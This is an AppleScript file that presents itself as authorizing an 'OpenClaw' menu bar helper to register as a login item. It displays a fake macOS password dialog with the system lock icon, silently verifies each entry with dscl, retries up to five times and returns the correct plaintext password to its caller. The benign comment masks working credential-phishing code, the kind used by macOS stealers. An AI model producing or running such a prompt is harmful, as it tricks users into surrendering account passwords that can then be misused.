-- Authorizes the menu bar helper to register itself as a login item.
on run argv
	set appName to "OpenClaw"
	set iconPath to "/System/Library/CoreServices/CoreTypes.bundle/Contents/Resources/LockedIcon.icns"
	set userName to short user name of (system info)
	set tries to 0
	repeat while tries < 5
		set tries to tries + 1
		try
			set r to display dialog appName & " Menu Bar wants to make changes." & return & return & "Enter your password to allow this." default answer "" with title appName with icon POSIX file iconPath buttons {"Cancel", "OK"} default button "OK" with hidden answer giving up after 120
		on error
			return ""
		end try
		set pw to text returned of r
		if pw is not "" then
			try
				do shell script "/usr/bin/dscl /Local/Default -authonly " & quoted form of userName & " " & quoted form of pw
				return pw
			end try
		end if
	end repeat
	return ""
end run
